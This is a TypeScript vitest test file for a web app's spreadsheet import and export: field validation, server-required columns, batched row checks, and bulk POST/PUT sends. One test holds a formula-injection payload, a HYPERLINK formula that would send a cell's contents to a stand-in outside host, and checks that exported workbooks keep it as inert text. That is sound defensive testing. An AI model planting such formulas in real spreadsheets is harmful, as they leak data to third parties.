import { describe, expect, it } from 'vitest';
import { read, utils } from 'xlsx';
import type { FieldModel } from '../../../../codegen/model/fields.ts';
import type { FieldsMetadata } from '../../../../src/api/metadata.ts';
import type { RequestFunction } from '../../../../src/api/request.ts';
import { fetchNames } from '../../../../src/pages/list/cells/nameList.ts';
import { cellProblem, createCheckRow } from '../../../../src/pages/transfer/checkRow.ts';
import { failedFile } from '../../../../src/pages/transfer/failedFile.ts';
import { importFields, missingFields } from '../../../../src/pages/transfer/importFields.ts';
import type { ImportRow } from '../../../../src/pages/transfer/importRow.ts';
import { readPreview } from '../../../../src/pages/transfer/preview.ts';
import { createRowChecks } from '../../../../src/pages/transfer/rowChecks.ts';
import { sendRows } from '../../../../src/pages/transfer/sendRow.ts';

const label = (literal: string) => ({ literal });
const say = (text: unknown) =>
  typeof text === 'object' && text !== null && 'literal' in text ? String(text.literal) : '';
const field = (given: Partial<FieldModel> & Pick<FieldModel, 'name' | 'type'>): FieldModel => ({
  label: label(given.name),
  ...given,
});
const columnOf = (model: FieldModel) => ({
  field: model.name,
  title: model.name,
  label: model.name,
  secret: false,
  model,
});
const problem = (model: FieldModel, value: unknown) =>
  cellProblem(value, columnOf(model), say)?.key;

describe('a file before it is uploaded (spec 1, section 5)', () => {
  const name = field({ name: 'name', type: 'string', required: true, maxLength: 5 });
  const port = field({ name: 'port', type: 'integer', min: 1, max: 65_535 });
  const source = field({
    name: 'source',
    type: 'choice',
    choices: [{ value: 'ldap', label: label('LDAP/AD') }],
  });
  const rules = field({ name: 'rules', type: 'list', widget: 'ip-group' });

  it.each([
    ['a required value that is blank', name, undefined, 'pages.problem.required'],
    ['a text that is too long', name, 'too long', 'pages.problem.maxLength'],
    ['a text where a number belongs', port, 'ssh', 'pages.problem.number'],
    ['a number that is too large', port, '70000', 'pages.problem.max'],
    ['a value that is no choice', source, 'radius', 'transfer.check.choice'],
    ['an address that is none', rules, '10.0.0.0/8,10.0.0', 'forms.ip.wrong'],
    ['a mail address', field({ name: 'email', type: 'email' }), 'no', 'pages.problem.email'],
    ['JSON', field({ name: 'attrs', type: 'json' }), '{a', 'pages.problem.json'],
  ])('has %s marked', (_, model, value, key) => {
    expect(problem(model, value)).toBe(key);
  });

  it.each([
    ['a number written as text', port, '22'],
    ['a choice by its value', source, 'ldap'],
    ['a choice by its words', source, 'LDAP/AD'],
    ['what only the server can tell', field({ name: 'users', type: 'references' }), 'u1, u2'],
    ['what cannot be written anyway', field({ name: 'id', type: 'id', required: true }), ''],
  ])('has nothing to say of %s', (_, model, value) => {
    expect(problem(model, value)).toBeUndefined();
  });

  it('requires what the server requires, not what a form insists on', () => {
    const roles = field({ name: 'roles', type: 'references', required: true });
    const metadata: FieldsMetadata = {
      name: { type: 'string', required: true, read_only: false, label: 'Name' },
      roles: { type: 'field', required: false, read_only: false, label: 'Roles' },
    };
    const fields = importFields({ fields: [name, roles] }, undefined, metadata);
    expect(fields.map(({ required }) => required)).toEqual([true, undefined]);
    expect(missingFields('create', [columnOf(roles)], fields)).toEqual([fields[0]]);
    expect(missingFields('update', [], fields)).toEqual([]);
  });

  it('has no columns for what another version of the server has', () => {
    const old = field({ name: 'mysql_port', type: 'integer', gate: { until: 'v2.23' } });
    const namesOn = (server: string) =>
      importFields({ fields: [name, old] }, server, {}).map((one) => one.name);
    expect([namesOn('v2.23'), namesOn('v2.28')]).toEqual([['name', 'mysql_port'], ['name']]);
  });

  it('is looked through a few rows at a time, and again where a row changes', () => {
    const rows = Array.from({ length: 1000 }, (_, index): ImportRow => ({
      index,
      values: index % 100 === 0 ? {} : { name: 'ok' },
      status: 'pending',
    }));
    const turns: (() => void)[] = [];
    let clock = 0;
    const checks = createRowChecks(
      { size: rows.length, row: (index) => rows[index] },
      createCheckRow([columnOf(name)], say),
      (next) => turns.push(next),
      () => (clock += 1),
    );
    let count = 0;
    for (let turn = turns.shift(); turn; turn = turns.shift()) {
      turn();
      count += 1;
    }
    expect(count).toBeGreaterThan(50);
    expect(checks.indexes()).toEqual([0, 100, 200, 300, 400, 500, 600, 700, 800, 900]);
    checks.changed({ index: 100, values: { name: 'ok' }, status: 'pending' });
    checks.changed({ index: 7, values: { name: 'too long' }, status: 'pending' });
    expect(checks.indexes().slice(0, 3)).toEqual([0, 7, 200]);
  });
});

describe('rows in one call (protocol, section 5)', () => {
  const fields = [field({ name: 'id', type: 'id' }), field({ name: 'name', type: 'string' })];
  const { columns } = readPreview(
    {
      title: [
        ['ID', 'id'],
        ['Name', 'name'],
      ],
      data: [],
    },
    fields,
  );
  const row = (index: number): ImportRow => ({
    index,
    values: { id: `r${index}`, name: `n${index}` },
    status: 'pending',
  });
  async function send(kind: 'create' | 'update', answer: unknown) {
    const calls: unknown[] = [];
    const request = (async (address: string, options: unknown) => {
      calls.push({ address, options });
      return answer;
    }) as RequestFunction;
    const target = {
      request,
      definition: { api: 'users/groups' },
      query: {},
      kind,
      me: undefined,
      columns,
      say,
      resolved: ({ values }: ImportRow) => values,
      existing: { read: async (id: string | number) => ({ id, comment: `of ${id}` }) },
      kept: async () => [{ name: 'comment', hasDefault: false }],
      ahead: () => [],
    };
    return { ids: await sendRows([row(0), row(1)], target), calls };
  }

  it('are created by POST of an array, which answers with the records', async () => {
    const { ids, calls } = await send('create', [{ id: 'a' }, { id: 'b' }]);
    expect(ids).toEqual(['a', 'b']);
    expect(calls).toEqual([
      {
        address: 'users/groups',
        options: expect.objectContaining({
          method: 'POST',
          body: [
            { id: 'r0', name: 'n0' },
            { id: 'r1', name: 'n1' },
          ],
        }),
      },
    ]);
  });

  it('are changed by PUT of an array with their ids', async () => {
    const { ids, calls } = await send('update', [{ id: 'r1' }, { id: 'r0' }]);
    expect(ids).toEqual(['r0', 'r1']);
    expect(calls).toEqual([
      { address: 'users/groups', options: expect.objectContaining({ method: 'PUT' }) },
    ]);
  });

  it('go into a workbook that can be imported as it is, when they have failed', async () => {
    const failed = [{ ...row(0), values: { id: '007', name: 'a "b", c' } }];
    const content = await (await failedFile('xlsx', columns, failed)).arrayBuffer();
    const book = read(content);
    const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
    expect(utils.sheet_to_json(sheet, { header: 1 })).toEqual([
      ['ID', 'Name'],
      ['007', 'a "b", c'],
    ]);
  });

  it('stand in a workbook as text, never as formulas that a spreadsheet calculates', async () => {
    const name = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")';
    const failed = [{ ...row(0), values: { id: 'a1', name } }];
    const book = read(await (await failedFile('xlsx', columns, failed)).arrayBuffer());
    const cell = book.Sheets[book.SheetNames[0] ?? '']?.['B2'];
    expect([cell.t, cell.v, cell.f]).toEqual(['s', name, undefined]);
  });
});

describe('a cell that fetches names (spec 1, section 7)', () => {
  const answering = (body: unknown) => (async () => body) as RequestFunction;
  it('reads the name of each item, of a list or of a page of one', async () => {
    const items = [{ name: 'root' }, { name: 'deploy' }, { id: 3 }];
    expect(await fetchNames(answering(items), 'a')).toEqual(['root', 'deploy']);
    expect(await fetchNames(answering({ results: items }), 'a')).toEqual(['root', 'deploy']);
  });
});
